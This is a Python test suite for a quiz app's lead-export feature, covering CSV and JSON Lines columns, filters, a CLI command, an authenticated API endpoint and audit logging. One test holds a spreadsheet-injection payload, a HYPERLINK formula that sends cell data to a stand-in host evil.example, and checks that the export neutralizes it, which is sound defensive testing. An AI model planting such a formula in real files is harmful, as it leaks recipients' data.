"""The marketer's export of leads: columns and labels, filters, CSV safety, the command and the endpoint."""

import csv
import io
import json
import os
from pathlib import Path

import pytest
from factory import make_quiz
from hypothesis import given
from hypothesis import strategies as st
from starlette.routing import Route
from starlette.testclient import TestClient

from quiz.app import create_app
from quiz.cli import main
from quiz.leads.records import lead_id
from quiz.marketer.api import export_leads
from quiz.marketer.export import (
    FIXED_COLUMNS,
    ExportError,
    ExportFilter,
    by_id,
    columns,
    csv_chunks,
    defused,
    export_chunks,
    line_leads,
    parse_filter,
    rows,
)
from quiz.settings import from_environment
from quiz.store.tiny import TinyStore
from quiz.web.library import QuizLibrary
from quiz.web.services import services_of

QUIZZES = Path(__file__).parent.parent / "quizzes"
LIBRARY = by_id(QuizLibrary(QUIZZES).all())
SERUM = LIBRARY["serum-finder"]
KEY = "marketing-key-1234"


def lead(email, *, quiz="serum-finder", status="subscribed", updated="2025-03-10T09:00:00.000+00:00", **fields):
    """A lead record as quiz.leads.records documents it; keyword arguments replace fields."""
    record = {
        "id": lead_id(email, quiz),
        "email": email,
        "quiz": quiz,
        "quiz_version": "0123456789ab",
        "locale": "ja",
        "answers": {"skin_type": "dry", "concerns": ["dryness", "dullness"], "sensitive": "yes", "age": 34},
        "products": [{"id": "ceramide-moist-serum", "score": 9.0}, {"id": "cica-calming-serum", "score": 7.5}],
        "response": "r1",
        "context": {"locale": "ja", "product": "toner-100", "page": "https://shop.example/products/toner-100"},
        "site": "https://shop.example",
        "created_at": "2025-03-01T08:00:00.000+00:00",
        "updated_at": updated,
        "consent": {"status": status, "at": "2025-03-01T08:05:00.000+00:00", "version": "v2", "text_sha256": "ab" * 32},
    }
    record.update(fields)
    return record


def exported(leads, *, library=LIBRARY, **options):
    """The CSV export of ``leads`` read back as (header, list of row dicts)."""
    wanted = parse_filter(known=library, **options)
    text = "".join(export_chunks(leads, library, wanted, format="csv"))
    table = list(csv.reader(io.StringIO(text, newline="")))
    return table[0], [dict(zip(table[0], row, strict=True)) for row in table[1:]]


def emails(leads, **options):
    return [row["email"] for row in exported(leads, **options)[1]]


# Columns and labels


def test_columns_are_the_fixed_ones_then_each_question_in_the_quizs_language():
    japanese = columns([SERUM], None)
    assert japanese[: len(FIXED_COLUMNS)] == list(FIXED_COLUMNS)
    assert japanese[len(FIXED_COLUMNS) :] == [
        "洗顔後、何もつけずに30分ほど経つと肌はどうなりますか？",
        "いちばん気になる肌悩みはどれですか？",
        "化粧品で赤みやかゆみが出やすいほうですか？",
        "香りについてのお好みは？",
        "年齢を教えてください",
        "好きなテクスチャーは？",
    ]  # the info slide "serum_tip" has no answer, so no column
    english = columns([SERUM], "en")
    assert english[len(FIXED_COLUMNS)] == (
        "About 30 minutes after washing your face, with nothing on it, how does your skin feel?"
    )


def test_answers_are_option_labels_and_several_are_joined():
    _, (row,) = exported([lead("a@example.com")], quizzes=["serum-finder"])
    assert row["洗顔後、何もつけずに30分ほど経つと肌はどうなりますか？"] == "全体がつっぱる・カサつく"
    assert row["いちばん気になる肌悩みはどれですか？"] == "乾燥・つっぱり; くすみ・シミ"
    assert row["化粧品で赤みやかゆみが出やすいほうですか？"] == "はい、敏感なほうです"
    assert row["年齢を教えてください"] == "34"
    assert row["香りについてのお好みは？"] == ""  # not answered
    assert row["recommended"] == "セラミド モイストセラム; CICA カーミングセラム"
    assert row["recommended_ids"] == "ceramide-moist-serum; cica-calming-serum"


def test_english_labels_with_locale_en():
    _, (row,) = exported([lead("a@example.com")], quizzes=["serum-finder"], locale="en")
    assert row["Which skin concerns bother you most?"] == "Dryness and tightness; Dullness and dark spots"
    assert row["recommended"] == "Ceramide Moist Serum; CICA Calming Serum"


def test_fixed_columns_carry_consent_context_and_times():
    _, (row,) = exported([lead("a@example.com")])
    assert {name: row[name] for name in FIXED_COLUMNS if name not in ("recommended", "recommended_ids")} == {
        "channel": "email",
        "email": "a@example.com",
        "line_user_id": "",
        "line_friend": "",
        "consent_status": "subscribed",
        "consent_at": "2025-03-01T08:05:00.000+00:00",
        "consent_version": "v2",
        "consent_text_sha256": "ab" * 32,
        "quiz": "serum-finder",
        "quiz_version": "0123456789ab",
        "locale": "ja",
        "created_at": "2025-03-01T08:00:00.000+00:00",
        "updated_at": "2025-03-10T09:00:00.000+00:00",
        "page": "https://shop.example/products/toner-100",
        "product_page": "toner-100",
        "site": "https://shop.example",
    }


def test_several_quizzes_prefix_question_columns_with_the_quiz_id():
    header, found = exported([lead("a@example.com"), lead("b@example.com", quiz="coffee-finder", answers={})])
    assert "serum-finder: 年齢を教えてください" in header
    assert "coffee-finder: How do you usually brew at home?" in header
    assert [row["serum-finder: 年齢を教えてください"] for row in found] == ["34", ""]


def test_two_questions_with_one_title_are_told_apart_by_their_ids():
    quiz = make_quiz(
        questions=[
            {"id": "skin", "type": "single", "title": "Pick one", "options": ["Dry", "Oily"]},
            {"id": "fragrance", "type": "yes_no", "title": "Pick one"},
            {"id": "email", "type": "text", "title": "email"},
        ]
    )
    assert columns([quiz], None)[len(FIXED_COLUMNS) :] == ["Pick one (skin)", "Pick one (fragrance)", "email (email)"]


def test_an_answer_whose_option_was_removed_keeps_its_id():
    record = lead("a@example.com", answers={"concerns": ["dryness", "wrinkles-v1"]})
    _, (row,) = exported([record], quizzes=["serum-finder"])
    assert row["いちばん気になる肌悩みはどれですか？"] == "乾燥・つっぱり; wrinkles-v1"


def test_a_lead_of_a_removed_quiz_keeps_its_fixed_columns_and_raw_answers():
    gone = lead("a@example.com", quiz="retired-quiz", answers={"skin": "dry"}, products=[{"id": "p1", "score": 1}])
    library = {"serum-finder": SERUM}
    header, (row,) = exported([gone], library=library)
    assert header == columns([SERUM], None)
    assert (row["quiz"], row["recommended"], row["recommended_ids"]) == ("retired-quiz", "p1", "p1")
    wanted = parse_filter(known=library)
    (line,) = "".join(export_chunks([gone], library, wanted, format="jsonl")).splitlines()
    assert json.loads(line)["answers"] == {"skin": "dry"}


# Filters


def test_filter_by_quiz():
    leads = [lead("a@example.com"), lead("b@example.com", quiz="coffee-finder")]
    assert emails(leads, quizzes=["coffee-finder"]) == ["b@example.com"]
    assert emails(leads, quizzes=["coffee-finder,serum-finder"]) == ["a@example.com", "b@example.com"]


def test_filter_by_consent_keeps_only_subscribed_unless_any():
    statuses = ("none", "pending", "subscribed", "unsubscribed")
    leads = [lead(f"{status}@example.com", status=status) for status in statuses]
    assert emails(leads) == ["subscribed@example.com"]  # the default
    assert emails(leads, consent="any") == [f"{status}@example.com" for status in statuses]


def test_filter_by_date_range_on_updated_at_includes_the_whole_until_day():
    leads = [
        lead("before@example.com", updated="2025-02-28T23:59:59.999+00:00"),
        lead("first@example.com", updated="2025-03-01T00:00:00.000+00:00"),
        lead("last@example.com", updated="2025-03-31T23:59:59.999+00:00"),
        lead("after@example.com", updated="2025-04-01T00:00:00.000+00:00"),
    ]
    assert emails(leads, since="2025-03-01", until="2025-03-31") == ["first@example.com", "last@example.com"]
    assert emails(leads, since="2025-03-31T12:00:00Z") == ["last@example.com", "after@example.com"]
    assert emails(leads, until="2025-03-01T09:00:00+09:00") == ["before@example.com", "first@example.com"]


def test_an_unknown_quiz_id_names_the_known_ones():
    with pytest.raises(ExportError) as error:
        parse_filter(known=LIBRARY, quizzes=["serum"])
    assert str(error.value) == (
        "quiz: no quiz 'serum' in the library; known quizzes: coffee-finder, gift-finder, serum-finder"
    )
    assert error.value.parameter == "quiz"


@pytest.mark.parametrize(("options", "message"), [
    ({"since": "01/03/2025"}, "since: '01/03/2025' is not a date; use YYYY-MM-DD (UTC) or an ISO 8601 time"),
    ({"until": "2025-02-30"}, "until: '2025-02-30' is not a date; use YYYY-MM-DD"),
    ({"since": "2025-03-02", "until": "2025-03-01"}, "until: '2025-03-01' is before since '2025-03-02'"),
    ({"consent": "yes"}, "consent: 'yes' is not a consent filter; use subscribed or any"),
    ({"locale": "Japanese!"}, "locale: 'Japanese!' is not a locale"),
])  # fmt: skip
def test_bad_filters_say_what_is_expected(options, message):
    with pytest.raises(ExportError, match="^" + message.replace("(", r"\(").replace(")", r"\)")):
        parse_filter(known=LIBRARY, **options)


def test_empty_parameters_mean_no_filter():
    assert parse_filter(known=LIBRARY, quizzes=[""], since="", until="", consent="", locale="") == ExportFilter()


# CSV and JSON Lines


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\x00", "＝", "＋", "－", "＠"])
def test_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralized(start):
    formula = f'{start}HYPERLINK("https://evil.example/?"&A2, "click")'
    record = lead(
        "a@example.com",
        quiz="coffee-finder",
        answers={"notes": formula},
        context={"page": formula, "product": "", "locale": "en"},
    )
    _, (row,) = exported([record], quizzes=["coffee-finder"])
    assert row["Anything else we should know?"] == "'" + formula
    assert row["page"] == "'" + formula


def test_a_header_a_spreadsheet_would_run_is_neutralized_and_json_lines_keep_the_text_as_it_is():
    written = "".join(csv_chunks(["＝SUM(A1)", "\x00=1", "plain"], [{}], bom=False))
    assert next(csv.reader(io.StringIO(written, newline=""))) == ["'＝SUM(A1)", "'\x00=1", "plain"]
    record = lead("a@example.com", quiz="coffee-finder", answers={"notes": "＠cmd"})
    wanted = parse_filter(known=LIBRARY)
    (line,) = "".join(export_chunks([record], LIBRARY, wanted, format="jsonl")).splitlines()
    assert json.loads(line)["answers"]["notes"] == "＠cmd"  # for programs: the stored value, untouched


def test_excel_csv_starts_with_a_bom_and_ends_lines_with_crlf():
    wanted = parse_filter(known=LIBRARY)
    text = "".join(export_chunks([lead("a@example.com")], LIBRARY, wanted, format="csv", excel=True))
    assert text.startswith("\ufeffchannel,email,line_user_id,")
    assert text.count("\r\n") == 2 and text.replace("\r\n", "").count("\n") == 0
    plain = "".join(export_chunks([lead("a@example.com")], LIBRARY, wanted, format="csv"))
    assert plain.startswith("channel,email,") and "\r" not in plain


def test_japanese_round_trips_through_an_excel_csv_file(tmp_path):
    wanted = parse_filter(known=LIBRARY, quizzes=["serum-finder"])
    path = tmp_path / "leads.csv"
    chunks = export_chunks([lead("a@example.com")], LIBRARY, wanted, format="csv", excel=True)
    path.write_bytes("".join(chunks).encode("utf-8"))
    with open(path, encoding="utf-8-sig", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["いちばん気になる肌悩みはどれですか？"] == "乾燥・つっぱり; くすみ・シミ"


def test_jsonl_lines_parse_and_carry_labels_and_raw_values():
    wanted = parse_filter(known=LIBRARY, quizzes=["serum-finder"])
    text = "".join(export_chunks([lead("a@example.com"), lead("b@example.com")], LIBRARY, wanted, format="jsonl"))
    first, second = (json.loads(line) for line in text.splitlines())
    assert first["いちばん気になる肌悩みはどれですか？"] == "乾燥・つっぱり; くすみ・シミ"
    assert first["answers"]["concerns"] == ["dryness", "dullness"]
    assert first["products"][0] == {"id": "ceramide-moist-serum", "score": 9.0}
    assert second["email"] == "b@example.com"


def test_rows_stream_without_reading_every_lead_first():
    def endless():
        number = 0
        while True:
            number += 1
            yield lead(f"{number}@example.com")

    table = rows(endless(), {"serum-finder": SERUM}, ExportFilter())
    assert next(table)["email"] == "1@example.com"


@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",))))
def test_any_cell_reads_back_unchanged_or_apostrophed_and_never_as_a_formula(text):
    written = "".join(csv_chunks(["cell"], [{"cell": text}], bom=False))
    ((_header,), (cell,)) = list(csv.reader(io.StringIO(written, newline="")))
    assert cell in (text, "'" + text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\x00", "＝", "＋", "－", "＠"))
    assert defused(defused(text)) == defused(text)


# The command


@pytest.fixture
def data_dir(tmp_path, monkeypatch):
    """A data folder whose store holds three serum-finder leads, and the environment pointing at it."""
    folder = tmp_path / "data"
    store = TinyStore(folder / "store")
    for record in (lead("a@example.com"), lead("b@example.com"), lead("c@example.com", status="pending")):
        store.put("leads", record["id"], record)
    store.close()
    monkeypatch.setenv("QUIZ_DATA_DIR", str(folder))
    monkeypatch.setenv("QUIZ_QUIZZES_DIR", str(QUIZZES))
    monkeypatch.setenv("QUIZ_SECRET_KEYS", "k")
    return folder


def audit_lines(folder):
    return [json.loads(line) for line in (folder / "audit.log").read_text(encoding="utf-8").splitlines()]


def test_export_command_writes_the_file_and_an_audit_line(data_dir, tmp_path, caplog):
    output = tmp_path / "leads.csv"
    assert main(["export", "--quiz", "serum-finder", "--excel", "--output", str(output)]) == 0
    with open(output, encoding="utf-8-sig", newline="") as file:
        assert [row["email"] for row in csv.DictReader(file)] == ["a@example.com", "b@example.com"]
    assert output.stat().st_mode & 0o077 == 0  # personal data: readable by its owner only
    (entry,) = audit_lines(data_dir)
    assert entry["who"].startswith("cli:")
    assert (entry["rows"], entry["format"], entry["excel"], entry["complete"]) == (2, "csv", True, True)
    assert entry["filters"]["quiz"] == ["serum-finder"]
    assert "export by cli:" in caplog.text


def test_export_command_streams_jsonl_to_stdout(data_dir, capsys):
    assert main(["export", "--format", "jsonl", "--consent", "any"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert [json.loads(line)["email"] for line in lines] == ["a@example.com", "b@example.com", "c@example.com"]


def test_export_command_refuses_a_bad_date_without_a_traceback(data_dir, tmp_path, capsys):
    assert main(["export", "--since", "last week", "--output", str(tmp_path / "leads.csv")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("quiz export: since: 'last week' is not a date; use YYYY-MM-DD")
    assert "Traceback" not in err
    assert not (tmp_path / "leads.csv").exists()


def test_a_failing_export_leaves_no_file_behind(data_dir, tmp_path, monkeypatch, capsys):
    def failing_records(self, collection):
        yield lead("a@example.com")
        raise OSError("disk read error")

    monkeypatch.setattr(TinyStore, "records", failing_records)
    output = tmp_path / "out" / "leads.csv"
    output.parent.mkdir()
    assert main(["export", "--output", str(output)]) == 2
    assert "quiz export: disk read error" in capsys.readouterr().err
    assert list(output.parent.iterdir()) == []
    (entry,) = audit_lines(data_dir)
    assert entry["complete"] is False


def test_export_runs_while_the_server_holds_the_data_folder(data_dir, tmp_path):
    writer = TinyStore(data_dir / "store")
    try:
        writer.add_soon("leads", lead("d@example.com"))  # not yet flushed: the reader sees what is on disk
        output = tmp_path / "leads.csv"
        assert main(["export", "--output", str(output)]) == 0
        assert "a@example.com" in output.read_text(encoding="utf-8")
    finally:
        writer.close()


def test_export_command_without_a_data_folder_says_so(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("QUIZ_DATA_DIR", str(tmp_path / "nowhere"))
    monkeypatch.setenv("QUIZ_SECRET_KEYS", "k")
    monkeypatch.setenv("QUIZ_QUIZZES_DIR", str(QUIZZES))
    assert main(["export"]) == 2
    assert "no data folder here (check QUIZ_DATA_DIR)" in capsys.readouterr().err


# The endpoint


def client_for(tmp_path, *, api_key=KEY):
    environ = {"QUIZ_DATA_DIR": str(tmp_path / "data"), "QUIZ_SECRET_KEYS": "k", "QUIZ_API_KEY": api_key}
    app = create_app(from_environment(environ, quizzes_dir=str(QUIZZES)))
    app.router.routes.append(Route("/api/export", export_leads, methods=["GET"], name="export_leads"))
    for record in (lead("a@example.com"), lead("b@example.com", status="none")):
        services_of(app).store.put("leads", record["id"], record)
    return TestClient(app, client=("203.0.113.9", 50000))


def test_the_endpoint_is_off_without_an_api_key(tmp_path):
    response = client_for(tmp_path, api_key="").get("/api/export", headers={"Authorization": "Bearer "})
    assert response.status_code == 404


def test_a_missing_or_wrong_key_gets_the_same_401(tmp_path):
    client = client_for(tmp_path)
    answers = [
        client.get("/api/export"),
        client.get("/api/export", headers={"Authorization": f"Bearer {KEY}x"}),
        client.get("/api/export", headers={"Authorization": f"Basic {KEY}"}),
        client.get("/api/export", headers={"Authorization": "Bearer ключ".encode()}),
    ]
    assert {(answer.status_code, answer.text, answer.headers["www-authenticate"]) for answer in answers} == {
        (401, "This endpoint needs the API key: Authorization: Bearer KEY\n", "Bearer")
    }
    assert not (tmp_path / "data" / "audit.log").exists()


def test_the_right_key_streams_the_csv_and_records_who(tmp_path):
    client = client_for(tmp_path)
    response = client.get("/api/export?quiz=serum-finder&since=&excel=1", headers={"Authorization": f"Bearer {KEY}"})
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith('attachment; filename="leads-')
    assert response.headers["cache-control"] == "no-store"
    assert response.content.startswith("\ufeffchannel,email,".encode())
    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))
    assert row["email"] == "a@example.com"
    (entry,) = audit_lines(tmp_path / "data")
    assert (entry["who"], entry["rows"], entry["complete"]) == ("api:203.0.113.9", 1, True)


def test_the_endpoint_speaks_jsonl(tmp_path):
    client = client_for(tmp_path)
    response = client.get("/api/export?format=jsonl&consent=any", headers={"Authorization": f"Bearer {KEY}"})
    assert response.headers["content-type"] == "application/x-ndjson"
    assert [json.loads(line)["email"] for line in response.text.splitlines()] == ["a@example.com", "b@example.com"]


@pytest.mark.parametrize(("query", "message"), [
    ("since=yesterday", "since: 'yesterday' is not a date; use YYYY-MM-DD"),
    ("quiz=nope", "quiz: no quiz 'nope' in the library; known quizzes: coffee-finder"),
    ("format=xlsx", "format: 'xlsx' is not a format; use csv or jsonl"),
    ("format=jsonl&excel=1", "excel: applies to CSV only"),
    ("excel=maybe", "excel: 'maybe' is not a yes or no; use 1 or 0"),
])  # fmt: skip
def test_bad_parameters_get_a_400_naming_the_parameter(tmp_path, query, message):
    response = client_for(tmp_path).get(f"/api/export?{query}", headers={"Authorization": f"Bearer {KEY}"})
    assert response.status_code == 400
    assert response.text.startswith(message)


def test_audit_lines_from_two_writers_stay_whole(tmp_path):
    from quiz.marketer.audit import ExportAudit
    from quiz.store.memory import MemoryStore

    audits = [ExportAudit(tmp_path, MemoryStore(), who=f"cli:{n}", filters={}, format="csv") for n in range(20)]
    for number, audit in enumerate(audits):
        audit.finish(rows=number, complete=True)
    assert [entry["rows"] for entry in audit_lines(tmp_path)] == list(range(20))
    assert os.stat(tmp_path / "audit.log").st_mode & 0o077 == 0


def test_with_a_shared_store_every_machine_s_exports_are_audited_in_it(tmp_path, postgres_database):
    from quiz.marketer.audit import ExportAudit
    from quiz.store.postgres import PostgresStore

    store = PostgresStore(postgres_database)
    try:
        ExportAudit(tmp_path, store, who="api", filters={"quiz": ["serum"]}, format="csv").finish(rows=3, complete=True)
        (entry,) = store.records("audit")
        assert entry["who"] == "api" and entry["rows"] == 3 and entry["action"] == "export"
        assert not (tmp_path / "audit.log").exists()
    finally:
        store.close()


def test_line_identities_are_rows_with_their_user_id_friend_flag_and_line_consent():
    user = {
        "id": "U" + "4af4980629" * 3 + "ab",
        "friend": True,
        "blocked": False,
        "consent": {"status": "subscribed", "at": "2025-06-01T10:00:00.000+00:00", "version": "line-v1"},
        "created_at": "2025-06-01T10:00:00.000+00:00",
        "updated_at": "2025-06-01T10:00:00.000+00:00",
        "latest": {key: value for key, value in lead("x@example.com").items() if key not in ("email", "consent")},
    }
    blocked = {**user, "id": "U" + "0" * 32, "blocked": True, "consent": {"status": "unsubscribed"}}
    _, (row,) = exported(list(line_leads([user, blocked])), consent="subscribed")
    assert row["channel"] == "line" and row["email"] == "" and row["line_user_id"] == user["id"]
    assert row["line_friend"] == "yes" and row["consent_version"] == "line-v1"
    assert row["recommended_ids"] == "ceramide-moist-serum; cica-calming-serum"
    _, rows = exported(list(line_leads([user, blocked])), consent="any")
    assert [row["line_friend"] for row in rows] == ["yes", "no"]


def test_an_earlier_version_s_exports_log_becomes_the_audit_log(tmp_path):
    from quiz.marketer.audit import ExportAudit
    from quiz.store.memory import MemoryStore

    (tmp_path / "exports.log").write_text('{"who": "cli:earlier"}\n', encoding="utf-8")
    ExportAudit(tmp_path, MemoryStore(), who="cli:now", filters={}, format="csv").finish(rows=1, complete=True)
    assert [entry["who"] for entry in audit_lines(tmp_path)] == ["cli:earlier", "cli:now"]
    assert not (tmp_path / "exports.log").exists()


# The CSV export's own row writer against the general one (rows() and csv_chunks())

NASTY = ["", "plain", "a, b", 'say "hi"', "line\nbreak", "cr\ronly", "crlf\r\nend", "=1+1", "-3", "＠cmd", "\x00x", " "]


OF_OTHER_TYPES = [7, -2, 2.5, True, None, 1, 1.0, "1", [1], ["1"], [True], [1.0], 10**16]


def generated_lead(number, rng):
    quiz = rng.choice([*LIBRARY.values(), None])
    answers = {}
    for question in quiz.questions if quiz else []:
        options = [option.id for option in question.choices()] or ["?"]
        answers[question.id] = rng.choice(
            # equal values of other types (1, 1.0, True, "1") meet as keys of the export's cells: each has its own
            [rng.choice(options), rng.sample(options, min(2, len(options))), rng.choice(NASTY), *OF_OTHER_TYPES]
        )
    products = [{"id": product.id, "score": 1.5} for product in (quiz.products[:3] if quiz else [])]
    return {
        **lead(f"{number}@example.com", quiz=quiz.id if quiz else "gone-quiz"),
        "email": rng.choice([f"{number}@example.com", *NASTY]),
        "channel": rng.choice(["email", "line", None]),
        "line_user": rng.choice(["", "U" + "a" * 32, None]),
        "line_friend": rng.choice([True, False, None]),
        "answers": answers,
        "products": rng.choice([products, [*products, {"id": rng.choice(NASTY)}, "not a product"], []]),
        "site": rng.choice(NASTY),
        "quiz_version": rng.choice(["0123456789ab", 12, None]),
        "context": rng.choice([{}, {"page": rng.choice(NASTY), "product": rng.choice(NASTY)}]),
        "consent": rng.choice([{}, {"status": rng.choice(["subscribed", "", None]), "at": rng.choice(NASTY)}]),
    }


@pytest.mark.parametrize("options", [{"consent": "any"}, {}, {"quizzes": ["coffee-finder"], "locale": "en"}])
@pytest.mark.parametrize("excel", [False, True])
def test_the_csv_export_writes_what_rows_and_csv_chunks_write(options, excel):
    import random

    rng = random.Random(18)
    leads = [generated_lead(number, rng) for number in range(3_000)]
    wanted = parse_filter(known=LIBRARY, **options)
    exported = {quiz_id: LIBRARY[quiz_id] for quiz_id in (wanted.quizzes or sorted(LIBRARY))}
    expected = "".join(
        csv_chunks(columns(exported.values(), wanted.locale), rows(leads, exported, wanted), bom=excel, crlf=excel)
    )
    assert "".join(export_chunks(leads, LIBRARY, wanted, format="csv", excel=excel)) == expected


@given(st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs",))), min_size=1, max_size=4))
def test_any_text_in_any_field_exports_as_the_csv_module_writes_it(texts):
    record = {
        **lead("a@example.com"),
        "email": texts[0],
        "site": texts[-1],
        "answers": {"skin_type": texts[len(texts) // 2]},
    }
    wanted = parse_filter(known=LIBRARY, consent="any")
    exported = {quiz_id: LIBRARY[quiz_id] for quiz_id in sorted(LIBRARY)}
    expected = "".join(csv_chunks(columns(exported.values(), None), rows([record], exported, wanted), bom=False))
    assert "".join(export_chunks([record], LIBRARY, wanted, format="csv")) == expected
